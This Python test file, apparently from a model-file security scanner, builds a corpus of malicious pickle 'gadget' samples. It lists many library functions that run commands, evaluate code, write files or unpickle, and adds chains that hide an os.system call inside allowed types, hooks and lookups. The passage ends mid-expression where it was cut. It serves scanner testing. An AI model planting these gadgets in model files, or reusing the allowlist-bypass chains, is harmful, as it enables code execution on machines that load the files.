"""Functions that act when called with data: listed somewhere, or found by reading the libraries that a model loader has at hand."""

from __future__ import annotations

import marshal
import sys
from collections.abc import Iterator
from typing import Any

from tests.corpus import CANARY, COMMAND, SOURCE, Sample
from tests.corpus.assembler import PAYLOAD, built, call, made, named, pickled, push, stacked

_WORDS = COMMAND.split()
_PATH = str(CANARY)
_OPEN = f"open({_PATH!r}, 'w')"
_SCRIPT = f"from pathlib import Path; Path({_PATH!r}).touch()"
_SYSTEM = named("os", "system")

# module, name, arguments, whether it runs where these tests run, where it was published or how it works
_CALLS: tuple[tuple[str, str, tuple[Any, ...], bool, str], ...] = (
    ("os", "popen", (COMMAND,), True, "the oldest"),
    ("posix", "system", (COMMAND,), True, "os.system under its own name"),
    ("nt", "system", (COMMAND,), False, "os.system on Windows"),
    ("os", "posix_spawn", ("/usr/bin/touch", _WORDS, {}), True, "a process without a shell"),
    ("os", "spawnv", (0, "/usr/bin/touch", _WORDS), True, "a process without a shell"),
    ("os", "open", (_PATH, 65), True, "creates a file"),
    ("os", "mkdir", (_PATH,), True, "creates a folder"),
    ("os", "remove", (_PATH + "-not-there",), False, "deletes a file"),
    ("os", "putenv", ("LD_PRELOAD", "/tmp/x.so"), False, "changes what later processes load"),
    ("subprocess", "check_output", (_WORDS,), True, "subprocess"),
    ("subprocess", "getoutput", (COMMAND,), True, "subprocess through a shell"),
    ("_posixsubprocess", "fork_exec", ([b"touch"],), False, "GHSA-m6fh-58r7-x697: below subprocess"),
    ("pty", "spawn", (_WORDS,), True, "GHSA-r7v6-mfhq-g3m2, fickling #108"),
    ("builtins", "eval", (_OPEN,), True, "eval"),
    ("builtins", "exec", (SOURCE,), True, "exec"),
    ("builtins", "compile", (SOURCE, "x", "exec"), False, "code, for somebody to run"),
    ("builtins", "open", (_PATH, "w"), True, "creates a file"),
    ("builtins", "__import__", ("antigravity",), False, "importing acts"),
    ("builtins", "breakpoint", (), False, "a debugger for the attacker"),
    ("builtins", "help", ("modules",), False, "GHSA, modelaudit #1064: imports everything"),
    ("builtins", "input", ("password: ",), False, "waits for ever"),
    ("builtins", "globals", (), False, "the loader's names"),
    ("builtins", "vars", (named("os", "system"),), False, "somebody's names"),
    ("builtins", "setattr", (named("collections", "OrderedDict"), "x", 1), False, "patches what it is given"),
    ("builtins", "type", ("X", (), {"__del__": _SYSTEM}), False, "a class made on the spot"),
    ("io", "open", (_PATH, "w"), True, "creates a file"),
    ("io", "open_code", ("/etc/hostname",), False, "reads a file"),
    ("_io", "FileIO", (_PATH, "w"), True, "CVE-2025-10155 and kin: the class below open"),
    ("io", "FileIO", ("/etc/hostname",), False, "reads a file"),
    ("codecs", "open", (_PATH, "w"), True, "creates a file"),
    ("tempfile", "NamedTemporaryFile", ("w", -1, None, None, "-slipway-corpus", None, None, True), False, "creates a file"),
    ("fileinput", "input", ("/etc/hostname",), False, "reads a file"),
    ("linecache", "getline", ("/etc/hostname", 1), False, "CVE-2025-46417: reads a file"),
    ("ssl", "get_server_certificate", (("127.0.0.1", 1),), False, "CVE-2025-46417: sends what linecache read"),
    ("shutil", "copyfile", ("/etc/hostname", _PATH), True, "copies files"),
    ("shutil", "rmtree", (_PATH + "-not-there",), False, "deletes folders"),
    ("distutils.file_util", "write_file", (_PATH, ["x"]), False, "GHSA-hgrh-qx5j-jfwx and kin: writes files"),
    ("distutils.spawn", "spawn", (_WORDS,), False, "starts processes"),
    ("logging", "FileHandler", (_PATH,), True, "CVE-2026-56304: creates a file"),
    ("logging.config", "dictConfig", ({"version": 1, "handlers": {"h": {"class": "logging.FileHandler", "filename": _PATH}}, "root": {"handlers": ["h"]}},), True, "imports and calls what a dictionary names"),
    ("logging.config", "fileConfig", ("/etc/hostname",), False, "evaluates what a file says"),
    ("logging.config", "listen", (0,), False, "a thread that evaluates what arrives"),
    ("sqlite3", "connect", (_PATH,), True, "creates a file"),
    ("dbm.dumb", "open", (_PATH, "c"), False, "creates files"),
    ("shelve", "open", (_PATH,), False, "unpickles a file"),
    ("zipfile", "ZipFile", (_PATH, "w"), True, "creates a file"),
    ("tarfile", "TarFile", (_PATH, "w"), True, "creates a file"),
    ("gzip", "GzipFile", (_PATH, "w"), True, "creates a file"),
    ("bz2", "BZ2File", (_PATH, "w"), True, "creates a file"),
    ("lzma", "LZMAFile", (_PATH, "w"), True, "creates a file"),
    ("wave", "open", (_PATH, "w"), True, "creates a file"),
    ("mmap", "mmap", (-1, 1 << 40), False, "a terabyte of memory"),
    ("socket", "create_connection", (("127.0.0.1", 1),), False, "calls home"),
    ("urllib.request", "urlopen", ("http://127.0.0.1:1/",), False, "calls home"),
    ("urllib.request", "urlretrieve", ("file:///etc/hostname", _PATH), True, "writes what it fetched"),
    ("http.client", "HTTPSConnection", ("127.0.0.1", 1), False, "GHSA-hgrh-qx5j-jfwx: calls home"),
    ("smtplib", "SMTP", ("127.0.0.1", 1), False, "calls home"),
    ("ftplib", "FTP", ("127.0.0.1",), False, "calls home"),
    ("telnetlib", "Telnet", ("127.0.0.1", 1), False, "calls home"),
    ("requests.api", "get", ("http://127.0.0.1:1/",), False, "calls home"),
    ("aiohttp", "ClientSession", (), False, "GHSA-hgrh-qx5j-jfwx: calls home"),
    ("xmlrpc.client", "ServerProxy", ("http://127.0.0.1:1/",), False, "calls home"),
    ("webbrowser", "open", ("http://127.0.0.1:1/",), False, "starts a browser"),
    ("imaplib", "IMAP4_stream", (COMMAND,), False, "CVE-2026-56315: a mail box that is a command"),
    ("uuid", "_get_command_stdout", ("touch", _PATH), True, "CVE-2026-56315, modelaudit #581"),
    ("_osx_support", "_read_output", (COMMAND,), True, "CVE-2026-56315"),
    ("_osx_support", "_find_build_tool", ("x; " + COMMAND,), True, "CVE-2026-56315"),
    ("_aix_support", "_read_cmd_output", (COMMAND,), False, "CVE-2026-56315"),
    ("_pyrepl.pager", "pipe_pager", ("x", COMMAND), False, "CVE-2026-56315: Python 3.13 and up"),
    ("pydoc", "pipepager", ("x", f"cat >{_PATH}"), True, "GHSA: pydoc starts its pager"),
    ("pydoc", "tempfilepager", ("x", f"touch {_PATH} "), True, "pydoc starts its pager"),
    ("pydoc", "locate", ("os.system",), False, "from a name to a function"),
    ("pydoc", "safeimport", ("antigravity",), False, "imports"),
    ("pkgutil", "resolve_name", ("os:system",), False, "GHSA-vvpj-8cmc-gx39: from a name to anything"),
    ("importlib", "import_module", ("os",), False, "picklescan #66: from a name to a module"),
    ("importlib", "reload", (named("builtins", "object"),), False, "runs a module again"),
    ("runpy", "_run_code", (SOURCE, {}), True, "exec under another name"),
    ("runpy", "run_path", (_PATH + "-not-there",), False, "runs a file"),
    ("runpy", "run_module", ("antigravity",), False, "runs a module"),
    ("timeit", "timeit", (SOURCE, "pass", named("time", "perf_counter"), 1), True, "GHSA-v7x6-rv5q-mhwc"),
    ("timeit", "main", (["-n1", SOURCE],), True, "GHSA-v7x6-rv5q-mhwc"),
    ("cProfile", "run", (SOURCE, _PATH + "-p"), True, "GHSA-9w88-8rmg-7g2p and kin"),
    ("cProfile", "runctx", (SOURCE, {}, {}, _PATH + "-p"), True, "GHSA-9w88-8rmg-7g2p"),
    ("profile", "run", (SOURCE, _PATH + "-p"), True, "GHSA-46h3-79wf-xr6c"),
    ("trace", "main", (), False, "GHSA-5qwp-399c-mjwf: runs what it is told"),
    ("pdb", "run", (SOURCE,), False, "GHSA-4675-36f9-wf6r: runs in a debugger"),
    ("doctest", "debug_script", (f">>> {SOURCE}", True), False, "GHSA-fqq6-7vqf-w3fg"),
    ("doctest", "testfile", ("/etc/hostname",), False, "runs what a file says"),
    ("code", "interact", (), False, "a console"),
    ("codeop", "compile_command", ("1",), False, "code, for somebody to run"),
    ("test.support.script_helper", "assert_python_ok", ("-c", _SCRIPT), False, "the interpreter's own tests"),
    ("multiprocessing.util", "spawnv_passfds", (b"C\x0e/usr/bin/touch", [b"C" + bytes([len(w)]) + w.encode() for w in _WORDS], ()), True, "modelscan #338 1"),
    ("multiprocessing.spawn", "_main", (0, 0), False, "unpickles a file descriptor"),
    ("multiprocessing.managers", "RebuildProxy", (_SYSTEM, (), {}), False, "a call by another name"),
    ("concurrent.futures.process", "_process_chunk", (_SYSTEM, [(COMMAND,)]), True, "calls a function on arguments"),
    ("multiprocessing.pool", "starmapstar", ((_SYSTEM, [(COMMAND,)]),), True, "calls a function on arguments"),
    ("multiprocessing.pool", "mapstar", ((_SYSTEM, [COMMAND]),), True, "calls a function on arguments"),
    ("threading", "Timer", (0, _SYSTEM, (COMMAND,)), False, "a thread"),
    ("_thread", "start_new_thread", (_SYSTEM, (COMMAND,)), False, "a thread"),
    ("atexit", "register", (_SYSTEM, COMMAND), True, "GHSA-m6fh-58r7-x697: later"),
    ("signal", "signal", (14, _SYSTEM), False, "later"),
    ("sched", "scheduler", (_SYSTEM, _SYSTEM), False, "later"),
    ("weakref", "finalize", (named("collections", "OrderedDict"), _SYSTEM, COMMAND), True, "later"),
    ("contextvars", "Context", (), False, "context.run calls"),
    ("site", "addpackage", ("/tmp", "x.pth", None), False, "GHSA-m6fh-58r7-x697: .pth files run"),
    ("site", "execsitecustomize", (), False, "imports a name that an attacker may have placed"),
    ("ensurepip", "_run_pip", (["--version"],), False, "GHSA-xp4f-hrf8-rxw7"),
    ("venv", "create", (_PATH,), True, "GHSA-vqmv-47xg-9wpr: an environment with programs in it"),
    ("venv", "main", ([_PATH, "--without-pip"],), True, "GHSA-vqmv-47xg-9wpr"),
    ("pip", "main", (["--version"],), False, "CVE-2025-1716"),
    ("pip._internal", "main", (["--version"],), False, "CVE-2025-1716"),
    ("pip._internal.cli.main", "main", (["--version"],), False, "CVE-2025-1716"),
    ("setuptools.command.easy_install", "main", ([],), False, "runs setup.py"),
    ("imp", "load_source", ("x", _PATH + "-not-there"), False, "fickling #312: runs a file"),
    ("pipes", "Template", (), False, "fickling #312"),
    ("zipimport", "zipimporter", (_PATH + "-not-there",), False, "imports from an archive"),
    ("ctypes", "CDLL", ("/tmp/slipway-corpus-not-there.so",), False, "GHSA-q5qq-mvfm-j35x: loads native code"),
    ("ctypes", "PyDLL", (None,), False, "GHSA-q5qq-mvfm-j35x: the process's own symbols"),
    ("_ctypes", "dlopen", ("/tmp/slipway-corpus-not-there.so", 2), False, "below ctypes"),
    ("ctypes", "string_at", (0,), False, "reads any address"),
    ("ctypes", "memset", (0, 0, 1), False, "writes any address"),
    ("ctypes.util", "find_library", ("c",), False, "starts the compiler"),
    ("_interpreters", "create", (), False, "GHSA-6ggj-6f2q-f7mx"),
    ("_xxsubinterpreters", "create", (), False, "GHSA-6ggj-6f2q-f7mx"),
    ("_testcapi", "run_in_subinterp", (SOURCE,), False, "the interpreter's own tests"),
    ("functools", "partial", (_SYSTEM, COMMAND), False, "a call for later"),
    ("functools", "reduce", (named("operator", "call"), [COMMAND], _SYSTEM), True, "reduce(call, [cmd], system) = system(cmd)"),
    ("operator", "call", (_SYSTEM, COMMAND), True, "a call by another name"),
    ("operator", "attrgetter", ("system",), False, "GHSA-m273-6v24-x4m4"),
    ("operator", "itemgetter", ("system",), False, "GHSA-955r-x9j8-7rhh"),
    ("_operator", "methodcaller", ("system", COMMAND), False, "GHSA-955r-x9j8-7rhh"),
    ("builtins", "sum", ([1], [2]), False, "a function nobody vetted"),
    ("builtins", "sorted", ([COMMAND], ), False, "sorted calls its key"),
    ("itertools", "starmap", (_SYSTEM, [(COMMAND,)]), False, "a call for whoever iterates"),
    ("unittest.mock", "_importer", ("os.system",), False, "from a name to anything"),
    ("unittest.mock", "patch", ("os.system",), False, "patches"),
    ("types", "SimpleNamespace", (), False, "a thing with any attribute"),
    ("types", "ModuleType", ("os",), False, "a module made on the spot"),
    ("gc", "get_objects", (), False, "everything in the process"),
    ("sys", "setrecursionlimit", (10,), False, "breaks the process"),
    ("sys", "exit", (1,), False, "ends the process"),
    ("os", "_exit", (1,), False, "ends the process without a word"),
    ("faulthandler", "_sigsegv", (), False, "crashes"),
    ("resource", "setrlimit", (7, (1, 1)), False, "breaks the process"),
    ("lib2to3.pgen2.grammar", "Grammar", (), False, "GHSA-f54q-57x4-jg88: its loads unpickles"),
    ("lib2to3.main", "main", ("lib2to3.fixes", ["/etc/hostname"]), False, "GHSA-r8g5-cgf2-4m4m"),
    ("idlelib.calltip", "get_entity", (_OPEN,), True, "GHSA: evaluates an expression"),
    ("idlelib.run", "main", (), False, "GHSA-m869-42cg-3xwr"),
    ("cgitb", "handler", (), False, "writes a report"),
    ("xml.etree.ElementTree", "parse", ("/etc/hostname",), False, "reads a file"),
    ("xml.sax", "parse", ("/etc/hostname", None), False, "reads files it is told to"),
    ("ast", "literal_eval", ("1",), False, "evaluates, if only literals"),
    ("random", "_test", (), False, "a function nobody vetted"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", ({}, COMMAND, True, None, None, None, 0), False, "CVE-2025-10157"),
    ("asyncio", "run", (None,), False, "runs a coroutine"),
    ("asyncio.base_events", "BaseEventLoop", (), False, "an event loop calls"),
    # numpy, scipy, scikit-learn, joblib, sympy and others that a loader has at hand
    ("numpy", "load", (_PATH + "-not-there", None, True), False, "unpickles a file"),
    ("numpy", "fromfile", ("/etc/hostname",), False, "reads a file"),
    ("numpy", "loadtxt", ("/etc/hostname",), False, "reads a file, or an address"),
    ("numpy", "memmap", (_PATH, "u1", "w+", 0, (4,)), True, "creates a file"),
    ("numpy", "savetxt", (_PATH, [1.0]), True, "creates a file"),
    ("numpy", "save", (_PATH + "-s", [1.0]), False, "creates a file"),
    ("numpy", "vectorize", (_SYSTEM,), False, "a call for later"),
    ("numpy", "apply_along_axis", (_SYSTEM, 0, [1]), False, "calls what it is given"),
    ("numpy", "fromfunction", (_SYSTEM, (1,)), False, "calls what it is given"),
    ("numpy", "piecewise", ([1.0], [True], [_SYSTEM]), False, "calls what it is given"),
    ("numpy.f2py.crackfortran", "getlincoef", (_OPEN, {}), True, "GHSA, fickling #210: evaluates"),
    ("numpy.f2py.crackfortran", "myeval", (_OPEN, {}, {}), True, "evaluates"),
    ("numpy.f2py.crackfortran", "_eval_length", (_OPEN, {}), False, "GHSA, fickling #210: evaluates"),
    ("numpy.f2py.crackfortran", "param_eval", (_OPEN, {}, {}), False, "evaluates"),
    ("numpy.f2py.diagnose", "run_command", (COMMAND,), False, "a shell"),
    ("numpy.testing._private.utils", "runstring", (SOURCE, {}), True, "picklescan: exec under another name"),
    ("numpy.testing", "measure", (SOURCE, 1), True, "exec under another name"),
    ("numpy.lib._npyio_impl", "NpzFile", (None,), False, "unpickles members"),
    ("numpy.lib.format", "read_array", (None,), False, "unpickles"),
    ("numpy.distutils.exec_command", "exec_command", (COMMAND,), False, "a shell"),
    ("numpy.core._internal", "_ctypes", (1,), False, "addresses"),
    ("scipy.io", "loadmat", ("/etc/hostname",), False, "reads a file"),
    ("scipy.optimize", "minimize", (_SYSTEM, [1.0]), False, "calls what it is given"),
    ("scipy.integrate", "quad", (_SYSTEM, 0, 1), False, "calls what it is given"),
    ("scipy.LowLevelCallable", "from_cython", (None, "x"), False, "a native function by name"),
    ("sklearn.datasets", "fetch_openml", ("x",), False, "calls home"),
    ("sklearn.utils._testing", "assert_run_python_script_without_output", (_SCRIPT,), False, "a process"),
    ("sklearn.utils.metaestimators", "available_if", (_SYSTEM,), False, "calls what it is given"),
    ("sklearn.utils.parallel", "_FuncWrapper", (_SYSTEM,), False, "a call for later"),
    ("joblib", "load", (_PATH + "-not-there",), False, "unpickles a file"),
    ("joblib.numpy_pickle", "load", (_PATH + "-not-there",), False, "unpickles a file"),
    ("joblib", "dump", ([1], _PATH), True, "creates a file"),
    ("joblib.parallel", "BatchedCalls", ([(_SYSTEM, (COMMAND,), {})], (None, 1)), False, "calls when called"),
    ("joblib.externals.loky.process_executor", "_process_worker", (None,), False, "runs what arrives"),
    ("joblib.externals.cloudpickle", "loads", (bytearray(PAYLOAD),), False, "pickle.loads under another name"),
    ("joblib.externals.cloudpickle.cloudpickle", "_builtin_type", ("CodeType",), False, "the parts of a function"),
    ("cloudpickle", "loads", (bytearray(PAYLOAD),), True, "pickle.loads under another name"),
    ("cloudpickle.cloudpickle", "subimport", ("antigravity",), False, "imports"),
    ("dill", "loads", (bytearray(PAYLOAD),), False, "pickle.loads under another name"),
    ("dill._dill", "_create_function", (None, {}), False, "a function made on the spot"),
    ("pickle", "loads", (bytearray(PAYLOAD),), True, "GHSA-84r2-jw7c-4r5q"),
    ("_pickle", "loads", (bytearray(PAYLOAD),), True, "GHSA-84r2-jw7c-4r5q"),
    ("pickle", "_loads", (bytearray(PAYLOAD),), True, "GHSA-84r2-jw7c-4r5q: the one in Python"),
    ("marshal", "loads", (bytearray(marshal.dumps(1)),), False, "code, for somebody to run"),
    ("yaml", "unsafe_load", (f"!!python/object/apply:os.system ['{COMMAND}']",), True, "YAML that acts"),
    ("yaml", "load", ("1", named("yaml", "UnsafeLoader")), False, "YAML that acts"),
    ("jinja2", "Template", ("{{ 1 }}",), False, "code, for somebody to run"),
    ("sympy", "sympify", (f"open({_PATH!r},'w')",), True, "evaluates"),
    ("sympy.parsing.sympy_parser", "parse_expr", (f"open({_PATH!r},'w')",), True, "evaluates"),
    ("sympy.utilities.lambdify", "lambdify", (["x"], "x"), False, "code, for somebody to run"),
    ("pandas", "read_pickle", (_PATH + "-not-there",), False, "unpickles a file"),
    ("pandas", "eval", ("1",), False, "evaluates"),
    ("pandas.io.parsers.readers", "read_csv", ("http://127.0.0.1:1/",), False, "modelscan #338 1: calls home"),
    ("mlflow.projects.backend.local", "_run_entry_point", (COMMAND, ".", "", ""), False, "modelscan #338 1"),
    ("hydra.utils", "instantiate", ({"_target_": "os.system", "command": COMMAND},), False, "CVE-2025-23304: calls what a dictionary names"),
    ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", ("a", "b"), False, "runs fetched code"),
    ("keras.saving", "load_model", (_PATH + "-not-there",), False, "loads a file"),
    ("keras.src.utils.python_utils", "func_load", ("x",), False, "CVE-2024-3660: marshal"),
    ("tensorflow", "py_function", (_SYSTEM,), False, "calls what it is given"),
    ("tensorflow.io", "write_file", (_PATH, "x"), False, "creates a file"),
    ("torch", "load", (_PATH + "-not-there",), False, "unpickles a file"),
    ("torch.serialization", "load", (_PATH + "-not-there",), False, "picklescan: unpickles a file"),
    ("torch", "save", ([1], _PATH), True, "creates a file"),
    ("torch", "from_file", (_PATH, True, 4), True, "creates a file"),
    ("torch.jit", "load", (_PATH + "-not-there",), False, "loads a file"),
    ("torch.hub", "load", ("a/b", "c"), False, "runs fetched code"),
    ("torch.hub", "download_url_to_file", ("file:///etc/hostname", _PATH), True, "writes what it fetched"),
    ("torch.utils.collect_env", "run", (COMMAND,), True, "modelscan #338 1, picklescan: a shell"),
    ("torch.utils.cpp_extension", "load_inline", ("x", "int x;"), False, "compiles and loads native code"),
    ("torch.utils._config_module", "ConfigModule.load_config", (None, bytearray(PAYLOAD)), False, "picklescan: unpickles"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", bytearray(PAYLOAD)), True, "picklescan: unpickles"),
    ("torch.utils.bottleneck.__main__", "run_cprofile", (SOURCE, {}), False, "GHSA-4whj-rm5r-c2v8"),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof", (SOURCE, {}), False, "GHSA-4whj-rm5r-c2v8"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", (None, _OPEN, ()), True, "picklescan: evaluates"),
    ("torch.fx.graph_module", "_forward_from_src", (f"{SOURCE}\ndef forward(self): pass", {}, None), True, "torch.fx compiles the source in the pickle"),
    ("torch.fx.graph_module", "reduce_graph_module", ({"_code": f"{SOURCE}\ndef forward(self): pass"}, ""), False, "torch.fx compiles the source in the pickle"),
    ("torch.fx._symbolic_trace", "symbolic_trace", (_SYSTEM,), False, "calls what it is given"),
    ("torch._dynamo.guards", "GuardBuilder.get", (None, _OPEN), False, "picklescan: evaluates"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", (SOURCE, {}, {}), True, "picklescan: exec"),
    ("torch._inductor.codecache", "compile_file", (_PATH, _PATH, "x"), False, "picklescan: a compiler"),
    ("torch.distributed.rpc", "rpc_sync", ("x", _SYSTEM), False, "CVE-2024-5480: calls on others"),
    ("torch.multiprocessing", "spawn", (_SYSTEM,), False, "processes"),
    ("torch.package", "PackageImporter", (_PATH + "-not-there",), False, "imports from an archive"),
    ("torch.ops", "load_library", ("/tmp/slipway-corpus-not-there.so",), False, "loads native code"),
    ("torch._C", "import_ir_module", (), False, "loads a file"),
    ("torch.onnx.utils", "export", (), False, "creates a file"),
    ("torch.utils.model_zoo", "load_url", ("file:///etc/hostname",), False, "calls home, unpickles"),
    ("torch.autograd.function", "once_differentiable", (_SYSTEM,), False, "calls what it is given"),
    ("torch.utils.checkpoint", "checkpoint", (_SYSTEM, COMMAND), False, "calls what it is given"),
    ("torch.storage", "_load_from_bytes", (bytearray(PAYLOAD),), True, "torch.load of the bytes in the pickle, weights_only off"),
)  # fmt: skip


def samples() -> Iterator[Sample]:
    for module, name, arguments, lives, why in _CALLS:
        dotted = "." in name
        function = stacked(module, name) if dotted else named(module, name)
        content = pickled(call(function, *arguments), 4 if dotted else 2)
        yield Sample(
            name=f"gadget: {module}.{name}",
            attack="pickle gadget",
            why=why,
            make=lambda content=content: content,  # type: ignore[misc]
            filename="model.pkl",
            loader="pickle" if lives else None,
        )
    yield from _chains()


def _chains() -> Iterator[Sample]:
    def sample(name: str, body: bytes, why: str, loader: str | None = "pickle") -> Sample:
        return Sample(name=f"chain: {name}", attack="pickle gadget chain", why=why, make=lambda: pickled(body), filename="model.pkl", loader=loader)  # fmt: skip

    code = marshal.dumps(compile(SOURCE, "x", "exec"))
    version = f"{sys.version_info.major}.{sys.version_info.minor}"
    function = call(
        named("types", "FunctionType"),
        call(named("marshal", "loads"), bytearray(code)),
        {"__builtins__": {"open": named("builtins", "open")}},
    )
    yield sample("marshalled function", function + b")R", f"marshal, then types.FunctionType (Python {version})")
    yield sample(
        "list of a map",
        call(named("builtins", "list"), call(named("builtins", "map"), _SYSTEM, [COMMAND])),
        "map acts when it is read",
    )
    yield sample(
        "tuple of a filter",
        call(named("builtins", "tuple"), call(named("builtins", "filter"), _SYSTEM, [COMMAND])),
        "filter acts when it is read",
    )
    yield sample(
        "bytes of a map",
        call(named("builtins", "bytes"), call(named("builtins", "map"), _SYSTEM, [COMMAND])),
        "an allowed type reads a map",
    )
    yield sample(
        "OrderedDict of a map",
        call(named("collections", "OrderedDict"), call(named("builtins", "map"), _SYSTEM, [COMMAND])),
        "an allowed class reads a map",
    )
    yield sample(
        "set of a starmap",
        call(named("builtins", "set"), call(named("itertools", "starmap"), _SYSTEM, [(COMMAND,)])),
        "an allowed type reads a starmap",
    )
    yield sample(
        "deque of a map",
        call(named("collections", "deque"), call(named("builtins", "map"), _SYSTEM, [COMMAND])),
        "an allowed class reads a map",
    )
    yield sample(
        "Counter of a map",
        call(named("collections", "Counter"), call(named("builtins", "map"), _SYSTEM, [COMMAND])),
        "an allowed class reads a map",
    )
    yield sample(
        "numpy.fromiter of a map",
        call(named("numpy", "fromiter"), call(named("builtins", "map"), _SYSTEM, [COMMAND]), "i8"),
        "numpy reads a map",
    )
    yield sample(
        "torch.Size of a map",
        call(named("torch", "Size"), call(named("builtins", "map"), _SYSTEM, [COMMAND])),
        "torch reads a map",
        None,
    )
    yield sample("class body", call(named("builtins", "__build_class__"), function, "X"), "a class body is code")
    yield sample(
        "defaultdict looked up",
        call(
            named("operator", "getitem"),
            call(named("collections", "defaultdict"), call(named("functools", "partial"), _SYSTEM, COMMAND)),
            "k",
        ),
        "modelaudit #1061: the factory is called by a look-up",
    )
    yield sample(
        "ChainMap looked up",
        call(
            named("operator", "getitem"),
            call(
                named("collections", "ChainMap"),
                call(named("collections", "defaultdict"), call(named("functools", "partial"), _SYSTEM, COMMAND)),
            ),
            "k",
        ),
        "modelaudit #1064: a mapping around it",
    )
    yield sample(
        "format looked up",
        call(
            call(named("builtins", "getattr"), "{0[k]}", "format"),
            call(named("collections", "defaultdict"), call(named("functools", "partial"), _SYSTEM, COMMAND)),
        ),
        "modelaudit #1216: str.format looks up",
    )
    yield sample(
        "Template looked up",
        call(
            call(named("builtins", "getattr"), call(named("string", "Template"), "$k"), "substitute"),
            call(named("collections", "defaultdict"), call(named("functools", "partial"), _SYSTEM, COMMAND)),
        ),
        "modelaudit #1061: string.Template looks up",
    )
    yield sample(
        "re.sub callback",
        call(named("re", "sub"), "x", call(named("functools", "partial"), _SYSTEM, COMMAND), "x"),
        "modelaudit #1061: re calls its replacement",
        None,
    )
    yield sample(
        "Future callback",
        call(
            call(named("builtins", "getattr"), call(named("concurrent.futures._base", "Future")), "add_done_callback"),
            _SYSTEM,
        ),
        "modelaudit #1061: a future calls back",
        None,
    )
    yield sample(
        "sorted by a key",
        call(
            call(named("functools", "partial"), named("builtins", "sorted"), [COMMAND]),
        )
        + b"0"
        + call(named("functools", "reduce"), named("builtins", "sorted"), [[COMMAND]]),
        "sorted",
        None,
    )
    yield sample(
        "ExitStack",
        call(call(named("builtins", "getattr"), call(named("contextlib", "ExitStack")), "callback"), _SYSTEM, COMMAND)
        + b"0",
        "later",
        None,
    )
    yield sample(
        "getattr of a getattr",
        call(
            call(named("builtins", "getattr"), call(named("builtins", "getattr"), named("os", "path"), "os"), "system"),
            COMMAND,
        ),
        "os.path.os.system",
    )
    yield sample(
        "object's subclasses",
        call(call(named("builtins", "getattr"), named("builtins", "object"), "__subclasses__")),
        "from object to everything",
        None,
    )
    yield sample(
        "type with a finalizer",
        call(
            call(named("builtins", "type"), "X", (), {"__del__": call(named("functools", "partial"), _SYSTEM, COMMAND)})
        )
        + b"0N",
        "a class made on the spot acts when it dies",
    )
    yield sample("enum with a hook", call(named("enum", "Enum"), "X", {"a": 1}), "a class made on the spot", None)
    yield sample(
        "dataclass made on the spot",
        call(named("dataclasses", "make_dataclass"), "X", ["a; " + SOURCE]),
        "make_dataclass compiles names",
        None,
    )
    yield sample(
        "namedtuple made on the spot",
        call(named("collections", "namedtuple"), "X", ["a"]),
        "namedtuple compiles names",
        None,
    )
    yield sample(
        "FunctionTransformer",
        built(
            made(named("sklearn.preprocessing._function_transformer", "FunctionTransformer")),
            {"func": named("os", "system"), "inverse_func": None, "validate": False},
        ),
        "acts on transform",
        None,
    )
    yield sample(
        "FunctionTransformer of eval",
        built(
            made(named("sklearn.preprocessing._function_transformer", "FunctionTransformer")),
            {"func": named("numpy.f2py.crackfortran", "myeval"), "validate": False},
        ),
        "acts on transform",
        None,
    )
    yield sample(
        "vectorizer with a tokenizer",
        built(
            made(named("sklearn.feature_extraction.text", "CountVectorizer")),
            {"tokenizer": named("os", "system"), "input": "content"},
        ),
        "acts on transform",
        None,
    )
    yield sample(
        "pipeline with a cache",
        built(
            made(named("sklearn.pipeline", "Pipeline")),
            {"steps": [], "memory": call(named("joblib.memory", "Memory"), "/tmp")},
        ),
        "joblib.Memory unpickles its folder",
        None,
    )
    yield sample(
        "module with a hook",
        built(
            made(named("torch.nn.modules.linear", "Linear")),
            {"_forward_hooks": {0: named("os", "system")}, "_parameters": {}, "_modules": {}},
        ),
        "acts on forward",
        None,
    )
    yield sample(
        "module with another forward",
        built(
            made(named("torch.nn.modules.linear", "Identity")),
            {"forward": named("os", "system"), "_parameters": {}, "_modules": {}},
        ),
        "acts on forward",
        None,
    )
    yield sample(
        "module with another class",
        built(made(named("torch.nn.modules.linear", "Identity")), {"__class__": named("subprocess", "Popen")}),
        "BUILD writes __dict__ only, but who knows",
        None,
    )
    yield sample(
        "parameter with state",
        call(named("torch._utils", "_rebuild_parameter_with_state"), 1, True, {}, {"x": _SYSTEM}),
        "sets attributes of choice",
        None,
    )
    yield sample(
        "tensor of a type",
        call(named("torch._tensor", "_rebuild_from_type_v2"), _SYSTEM, named("builtins", "object"), (COMMAND,), {}),
        "calls its first argument: an allowed helper is a gadget",
    )
    yield sample(
        "tensor of a type, allowed callee",
        call(
            named("torch._tensor", "_rebuild_from_type_v2"),
            named("torch", "load"),
            named("torch", "Tensor"),
            ("/tmp/x",),
            {},
        ),
        "calls its first argument",
        None,
    )
    yield sample(
        "numpy ufunc", call(named("numpy.core", "_ufunc_reduce"), named("os", "system")), "a ufunc by name", None
    )
    yield sample(
        "random generator of choice",
        call(named("numpy.random._pickle", "__bit_generator_ctor"), _SYSTEM),
        "calls its argument in some versions",
        None,
    )
    yield sample(
        "cython unpickler",
        call(named("sklearn.tree._tree", "__pyx_unpickle_Tree"), _SYSTEM, 0, None),
        "a class by argument",
        None,
    )
    yield sample(
        "Path.touch",
        call(stacked("pathlib", "Path.touch"), call(named("pathlib", "PosixPath"), _PATH)),
        "modelaudit #1059: a method by its class",
    )
    yield sample(
        "Path.write_text",
        call(stacked("pathlib", "Path.write_text"), call(named("pathlib", "PosixPath"), _PATH), "x"),
        "modelaudit #1059: a method by its class",
    )
    yield sample(
        "trace.Trace.run",
        call(stacked("trace", "Trace.run"), call(named("trace", "Trace")), SOURCE),
        "GHSA-5qwp-399c-mjwf",
    )
    yield sample(
        "profile.Profile.run",
        call(stacked("profile", "Profile.run"), call(named("profile", "Profile")), SOURCE),
        "GHSA-x696-vm39-cp64",
    )
    yield sample(
        "bdb.Bdb.run", call(stacked("bdb", "Bdb.run"), call(named("bdb", "Bdb")), SOURCE), "GHSA-4675-36f9-wf6r", None
    )
    yield sample(
        "code.InteractiveInterpreter.runsource",
        call(
            stacked("code", "InteractiveInterpreter.runsource"), call(named("code", "InteractiveInterpreter")), SOURCE
        ),
        "picklescan #48",
    )
    yield sample(
        "Grammar.loads",
        call(
            stacked("lib2to3.pgen2.grammar", "Grammar.loads"),
